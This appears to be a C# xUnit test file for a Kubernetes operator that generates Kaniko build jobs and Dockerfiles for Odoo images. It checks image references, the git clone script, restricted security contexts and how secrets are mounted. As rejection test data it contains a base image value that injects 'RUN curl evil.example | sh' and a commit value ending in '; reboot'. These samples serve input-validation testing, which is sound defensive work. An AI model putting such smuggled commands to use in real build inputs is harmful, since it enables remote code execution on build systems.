using k8s;
using k8s.Models;
using OCore.Api.V1Alpha1;
using OCore.Operator.Workloads;

namespace OCore.Operator.Tests.Workloads;

public sealed class BuildJobBuilderTests
{
    private static readonly PipelineImages Images = new();

    public static TheoryData<string?, string, string> BaseImages => new()
    {
        { null, "odoo", "FROM odoo:18.0" },
        { "", "odoo", "FROM odoo:18.0" },
        { null, "mirror.acme.example/odoo", "FROM mirror.acme.example/odoo:18.0" },
        { "registry.acme.example/base/odoo:18.0-20250101@sha256:abc", "odoo", "FROM registry.acme.example/base/odoo:18.0-20250101@sha256:abc" },
    };

    [Theory]
    [MemberData(nameof(BaseImages))]
    public void The_Dockerfile_builds_on_the_base_image_and_adds_addons_and_requirements(string? baseImage, string defaultRepository, string from)
    {
        var configMap = BuildJobBuilder.Dockerfile(WorkloadFixtures.Project(baseImage), WorkloadFixtures.Environment(), WorkloadFixtures.Deployment(),
            new PipelineImages(DefaultOdooRepository: defaultRepository));

        var lines = configMap.Data["Dockerfile"].Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(from, lines.Single(l => l.StartsWith("FROM ", StringComparison.Ordinal)));
        Assert.Equal(["USER root", "COPY . /mnt/extra-addons"], lines.SkipWhile(l => !l.StartsWith("FROM", StringComparison.Ordinal)).Skip(1).Take(2));
        var run = string.Join('\n', lines.SkipWhile(l => !l.StartsWith("RUN ", StringComparison.Ordinal)).TakeWhile(l => l != "USER odoo"));
        Assert.Contains("find /mnt/extra-addons -name requirements.txt", run, StringComparison.Ordinal);
        Assert.Contains("pip3 install --no-cache-dir -r \"$file\"", run, StringComparison.Ordinal);
        Assert.Contains("set -e", run, StringComparison.Ordinal);
        Assert.Equal("USER odoo", lines[^1]);
    }

    [Fact]
    public void The_Dockerfile_ConfigMap_belongs_to_the_deployment()
    {
        var configMap = BuildJobBuilder.Dockerfile(WorkloadFixtures.Project(), WorkloadFixtures.Environment(), WorkloadFixtures.Deployment());

        Assert.Equal(WorkloadNames.BuildContext(WorkloadFixtures.Deployment()), configMap.Metadata.Name);
        AssertOwnedByDeployment(configMap.Metadata);
    }

    [Theory]
    [InlineData("odoo:18.0\nRUN curl evil.example | sh")]
    [InlineData("odoo 18")]
    public void A_base_image_that_is_not_an_image_reference_is_rejected(string baseImage) =>
        Assert.Throws<ArgumentException>(() => BuildJobBuilder.Dockerfile(WorkloadFixtures.Project(baseImage), WorkloadFixtures.Environment(), WorkloadFixtures.Deployment()));

    [Fact]
    public void The_job_runs_once_with_a_deadline_and_belongs_to_the_deployment()
    {
        var job = Build();

        Assert.Equal(WorkloadNames.BuildJob(WorkloadFixtures.Deployment()), job.Metadata.Name);
        Assert.Equal(0, job.Spec.BackoffLimit);
        Assert.Equal(1800, job.Spec.ActiveDeadlineSeconds);
        Assert.Null(job.Spec.TtlSecondsAfterFinished);
        Assert.Equal("Never", job.Spec.Template.Spec.RestartPolicy);
        AssertOwnedByDeployment(job.Metadata);
        Assert.Equal(job.Metadata.Labels, job.Spec.Template.Metadata.Labels);
    }

    [Fact]
    public void The_clone_script_is_fixed_and_gets_the_commit_and_url_from_variables()
    {
        var first = Clone(Build());
        var other = Clone(BuildJobBuilder.Build(
            WorkloadFixtures.Project(url: "ssh://git@git.acme.example:2222/team/addons.git"),
            WorkloadFixtures.Environment(), WorkloadFixtures.Deployment(commit: new string('f', 40)), Images));

        Assert.Equal(first.Command, other.Command);
        var script = first.Command[^1];
        Assert.DoesNotContain(WorkloadFixtures.Commit, script, StringComparison.Ordinal);
        Assert.DoesNotContain("github.com", script, StringComparison.Ordinal);
        Assert.Contains("git fetch --depth 1 origin \"${OCORE_COMMIT}\" || git fetch origin", script, StringComparison.Ordinal);
        Assert.Contains("checkout --detach \"${OCORE_COMMIT}\"", script, StringComparison.Ordinal);
        Assert.Contains("git remote add origin \"${OCORE_REPOSITORY_URL}\"", script, StringComparison.Ordinal);
        Assert.Contains("git submodule update --init --recursive --depth 1", script, StringComparison.Ordinal);
        Assert.Equal(WorkloadFixtures.Commit, Env(first, "OCORE_COMMIT"));
        Assert.Equal("ssh://git@github.com/acme/odoo-custom.git", Env(first, "OCORE_REPOSITORY_URL"));
        Assert.Equal("ssh://git@git.acme.example:2222/team/addons.git", Env(other, "OCORE_REPOSITORY_URL"));
        Assert.Equal(
            "ssh -i /etc/ocore/ssh/identity -o IdentitiesOnly=yes -o UserKnownHostsFile=/etc/ocore/ssh/known_hosts -o StrictHostKeyChecking=yes",
            Env(first, "GIT_SSH_COMMAND"));
        Assert.Equal(Images.Git, first.Image);
    }

    [Fact]
    public void The_clone_container_reads_the_deploy_key_read_only_and_runs_restricted()
    {
        var job = Build();
        var clone = Clone(job);

        var mount = Assert.Single(clone.VolumeMounts, m => m.MountPath == "/etc/ocore/ssh");
        Assert.True(mount.ReadOnlyProperty);
        var volume = Assert.Single(job.Spec.Template.Spec.Volumes, v => v.Name == mount.Name);
        Assert.Equal("shop-deploy-key", volume.Secret.SecretName);
        Assert.Equal(Convert.ToInt32("400", 8), volume.Secret.DefaultMode);
        Assert.Equal(["identity", "known_hosts"], volume.Secret.Items.Select(i => i.Key));

        var context = clone.SecurityContext;
        Assert.True(context.RunAsNonRoot);
        Assert.NotEqual(0, context.RunAsUser);
        Assert.True(context.ReadOnlyRootFilesystem);
        Assert.False(context.AllowPrivilegeEscalation);
        Assert.Equal(["ALL"], context.Capabilities.Drop);
        Assert.Equal("RuntimeDefault", job.Spec.Template.Spec.SecurityContext.SeccompProfile.Type);
        Assert.Equal(context.RunAsUser, job.Spec.Template.Spec.SecurityContext.FsGroup);
        Assert.False(job.Spec.Template.Spec.AutomountServiceAccountToken);
    }

    [Fact]
    public void Kaniko_builds_the_cloned_source_and_pushes_the_commit_tag()
    {
        var build = Kaniko(Build());

        Assert.Equal(Images.Builder, build.Image);
        Assert.Equal("/busybox/sh", build.Command[0]);
        Assert.Equal(
        [
            "--context=dir:///workspace/src",
            "--dockerfile=/workspace/build/Dockerfile",
            $"--destination=registry.acme.example/shop/odoo:{WorkloadFixtures.Commit}",
            "--digest-file=/dev/termination-log",
            "--image-name-with-digest-file=/workspace/image",
            "--cache=false",
        ], build.Args);
        var dockerfile = Assert.Single(build.VolumeMounts, m => m.MountPath == "/workspace/build");
        Assert.Equal(WorkloadNames.BuildContext(WorkloadFixtures.Deployment()),
            Assert.Single(Build().Spec.Template.Spec.Volumes, v => v.Name == dockerfile.Name).ConfigMap.Name);
        Assert.Contains(build.VolumeMounts, m => m.MountPath == "/workspace");
        Assert.Contains(Clone(Build()).VolumeMounts, m => m.MountPath == "/workspace");
    }

    [Theory]
    [InlineData(null)]
    [InlineData("registry-push")]
    public void The_push_secret_is_mounted_only_when_set(string? pushSecret)
    {
        var job = BuildJobBuilder.Build(WorkloadFixtures.Project(), WorkloadFixtures.Environment(pushSecret: pushSecret), WorkloadFixtures.Deployment(), Images);
        var mount = Kaniko(job).VolumeMounts.SingleOrDefault(m => m.MountPath == "/kaniko/.docker/config.json");
        var secrets = job.Spec.Template.Spec.Volumes.Where(v => v.Secret is not null).Select(v => v.Secret.SecretName).ToList();

        if (pushSecret is null)
        {
            Assert.Null(mount);
            Assert.Equal(["shop-deploy-key"], secrets);
            return;
        }

        Assert.NotNull(mount);
        Assert.True(mount.ReadOnlyProperty);
        var volume = Assert.Single(job.Spec.Template.Spec.Volumes, v => v.Name == mount.Name);
        Assert.Equal(pushSecret, volume.Secret.SecretName);
        var item = Assert.Single(volume.Secret.Items);
        Assert.Equal(".dockerconfigjson", item.Key);
        Assert.Equal(item.Path, mount.SubPath);
    }

    [Theory]
    [InlineData("main")]
    [InlineData("0123456789abcdef")]
    [InlineData("0123456789abcdef0123456789abcdef0123456; reboot")]
    public void A_commit_that_is_not_a_full_id_is_rejected(string commit) =>
        Assert.Throws<ArgumentException>(() => BuildJobBuilder.Build(WorkloadFixtures.Project(), WorkloadFixtures.Environment(), WorkloadFixtures.Deployment(commit: commit), Images));

    [Fact]
    public void Only_secret_references_reach_the_job()
    {
        var json = KubernetesJson.Serialize(BuildJobBuilder.Build(WorkloadFixtures.Project(), WorkloadFixtures.Environment(pushSecret: "push"), WorkloadFixtures.Deployment(), Images));

        Assert.DoesNotContain("BEGIN OPENSSH", json, StringComparison.Ordinal);
        Assert.DoesNotContain("\"data\"", json, StringComparison.Ordinal);
        Assert.DoesNotContain("auths", json, StringComparison.Ordinal);
    }

    private static V1Job Build() => BuildJobBuilder.Build(WorkloadFixtures.Project(), WorkloadFixtures.Environment(), WorkloadFixtures.Deployment(), Images);

    private static V1Container Clone(V1Job job) => Assert.Single(job.Spec.Template.Spec.InitContainers, c => c.Name == "clone");

    private static V1Container Kaniko(V1Job job) => Assert.Single(job.Spec.Template.Spec.Containers, c => c.Name == "build");

    private static string Env(V1Container container, string name) => Assert.Single(container.Env, e => e.Name == name).Value;

    private static void AssertOwnedByDeployment(V1ObjectMeta metadata)
    {
        Assert.Equal(WorkloadFixtures.Namespace, metadata.NamespaceProperty);
        var owner = Assert.Single(metadata.OwnerReferences);
        Assert.Equal(("Deployment", "deployment-uid", true), (owner.Kind, owner.Uid, owner.Controller == true));
        Assert.Equal("ocore.io/v1alpha1", owner.ApiVersion);
        Assert.Equal(new Dictionary<string, string>
        {
            [Labels.ManagedBy] = "ocore",
            [Labels.PartOf] = "ocore",
            [Labels.Project] = "shop",
            [Labels.Environment] = "production",
            [Labels.Deployment] = "shop-production-0123456789ab-1a2b3c4d",
            ["app.kubernetes.io/component"] = "build",
        }, metadata.Labels);
    }
}
